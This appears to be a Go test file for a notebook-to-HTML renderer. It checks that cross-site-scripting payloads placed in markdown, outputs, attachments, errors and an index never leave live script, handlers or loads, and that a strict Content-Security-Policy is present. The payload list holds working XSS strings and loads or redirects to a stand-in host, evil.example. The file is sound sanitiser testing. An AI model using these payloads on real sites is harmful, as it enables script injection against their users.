package run

import (
	"bytes"
	"encoding/base64"
	"errors"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// attacks are texts that run something, load something or lead elsewhere where they are
// taken for HTML.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `"><script>alert(1)</script>`, `'><svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)>`, `<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>`, `<a href="javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`, `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
	`<iframe src="//evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="//evil.example"></object>`, `<embed src="//evil.example">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`, `<base href="//evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import "//evil.example";</style>`,
	`<form action="//evil.example"><input name=a type=submit></form>`, `<button formaction="javascript:alert(1)">x</button>`, `<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>`,
	`<div style="background:url(//evil.example)">x</div>`, `<p style="position:fixed;inset:0">x</p>`, `<details ontoggle=alert(1) open>x</details>`, `</pre><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
	"$</math><script>alert(1)</script>$", "```\n</code></pre><script>alert(1)</script>\n```", `<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<img src="https://evil.example/track.png" onload=alert(1)>`, `<body onload=alert(1)>`, `<!--><script>alert(1)</script>-->`, `<![CDATA[><script>alert(1)</script>]]>`,
}

// tags are those that content may become on a page.
var tags = strings.Fields("h1 h2 h3 h4 h5 h6 p b i em strong code pre span div a img figure figcaption table thead tbody tr th td ul ol li details summary br hr " +
	"blockquote math mrow mi mo mn mtext mfrac msqrt mover munder munderover msub msup msubsup section nav input del progress main")

// live tells what of a page runs, loads or leads elsewhere: tags that may not be, handlers,
// addresses that run or load, styles that load or cover. Links are followed by people.
func live(t *testing.T, page []byte) string {
	t.Helper()
	tree, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range tree.Descendants() {
		if n.Type != html.ElementNode || n.Parent.Data == "head" || n.Data == "head" || n.Data == "html" {
			continue
		}
		if !slices.Contains(tags, n.Data) && n.Data != "body" || n.Namespace == "svg" {
			return "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "action", a.Key == "srcdoc", a.Key == "formaction",
				a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "position")),
				a.Key == "src" && strings.HasPrefix(value, "data:") && !strings.HasPrefix(value, "data:image/"),
				a.Key == "href" && strings.Contains(value, ":") && !strings.HasPrefix(value, "http") && !strings.HasPrefix(value, "./") && !strings.HasPrefix(value, "#") && !strings.HasPrefix(value, "mailto:"):
				return "<" + n.Data + " " + a.Key + "=" + a.Val + ">"
			}
		}
	}
	return ""
}

// Whatever stands in a notebook, its outputs and its errors, wherever it stands: the page
// shows it and runs nothing of it.
func TestPageRunsNothing(t *testing.T) {
	for _, attack := range attacks {
		mime := "image/png" + attack
		cells := []*Cell{
			{Type: "markdown", Source: attack}, {Type: "markdown", Source: "# " + attack + "\n\n| " + attack + " | b |\n|---|---|\n| a | b |\n"},
			{Type: "markdown", Source: "![a](attachment:x.png)", Attachments: map[string]map[string]any{"x.png": {mime: attack}}},
			{Type: "markdown", Source: "![a](attachment:x.svg)", Attachments: map[string]map[string]any{"x.svg": {"text/html" + attack: attack}}},
			{Type: "code", Source: attack, Outputs: []*Output{
				{Type: "stream", Name: "stdout", Text: attack}, {Type: "stream", Name: `x"` + attack, Text: attack},
				{Type: "error", Error: attack, Value: attack, Trace: []string{attack, "goroutine 1 \n" + attack}},
			}},
		}
		for _, kind := range []string{"text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "application/json", mime, "x/" + attack} {
			cells[4].Outputs = append(cells[4].Outputs, &Output{Type: "display_data", Data: map[string]any{kind: attack, "text/plain": attack}})
			cells[4].Outputs = append(cells[4].Outputs, &Output{Type: "display_data", Data: map[string]any{kind: attack}})
		}
		nb := &Notebook{Cells: cells, Metadata: map[string]any{"title": attack}}
		page := Page(nb, errors.New(attack))
		if found := live(t, page); found != "" {
			t.Errorf("%s leaves %s", attack, found)
		}
		index := Index([]Report{{Notebook: attack, Title: attack, Question: attack, Page: attack + ".html", Error: attack, Cells: []CellReport{{Line: attack}}}, {Page: "javascript:alert(1).html"}})
		if found := live(t, index); found != "" {
			t.Errorf("in the index %s leaves %s", attack, found)
		}
		for name, page := range map[string][]byte{"page": page, "index": index} {
			head, _, _ := strings.Cut(string(page), "<style>")
			if !strings.Contains(head, `http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;`) || strings.Contains(head, "<script") {
				t.Errorf("the head of the %s: %s", name, head)
			}
		}
	}
}

// What notebooks use of HTML stays.
func TestCleanKeeps(t *testing.T) {
	for _, text := range []string{
		`<details><summary>Solution</summary><p>It is <b>so</b>.</p></details>`, `<details open=""><summary>x</summary></details>`,
		`<div><b>loss</b> <progress style="width:100%" value="3" max="10"></progress></div>`, `<table border="1" class="dataframe"><tbody><tr><td style="text-align:right;white-space:nowrap;background-color:#aabbcc">1</td></tr></tbody></table>`,
		`<math display="block"><mrow><mfrac><mi>a</mi><mn>2</mn></mfrac></mrow></math>`, `<a href="index.html#a-b">x</a>`, `<a href="https://example.org/?a=1&amp;b=2">x</a>`, `<h2 id="a-b">A</h2>`, `<ol start="2"><li>x</li></ol>`, `<td colspan="2" align="right">1</td>`,
		`<img width="624" alt="loss: 3 &amp; &#34;more&#34;" src="data:image/svg+xml;base64,PHN2Zy8+">`, `<input checked="" disabled="" type="checkbox">`, `<pre style="margin:0;padding:0">a</pre>`,
	} {
		if got := strings.NewReplacer(": ", ":", "; ", ";").Replace(clean(text)); got != strings.NewReplacer(": ", ":", "; ", ";").Replace(text) {
			t.Errorf("%s becomes %s", text, got)
		}
	}
	drawn := `<svg width="3"><circle r="2"/></svg>`
	want := base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" width="3"><circle r="2"/></svg>`))
	if got := clean("<p>" + drawn + "</p>"); got != `<p><img alt="" src="data:image/svg+xml;base64,`+want+`"></p>` {
		t.Errorf("a drawing becomes %s", got)
	}
}
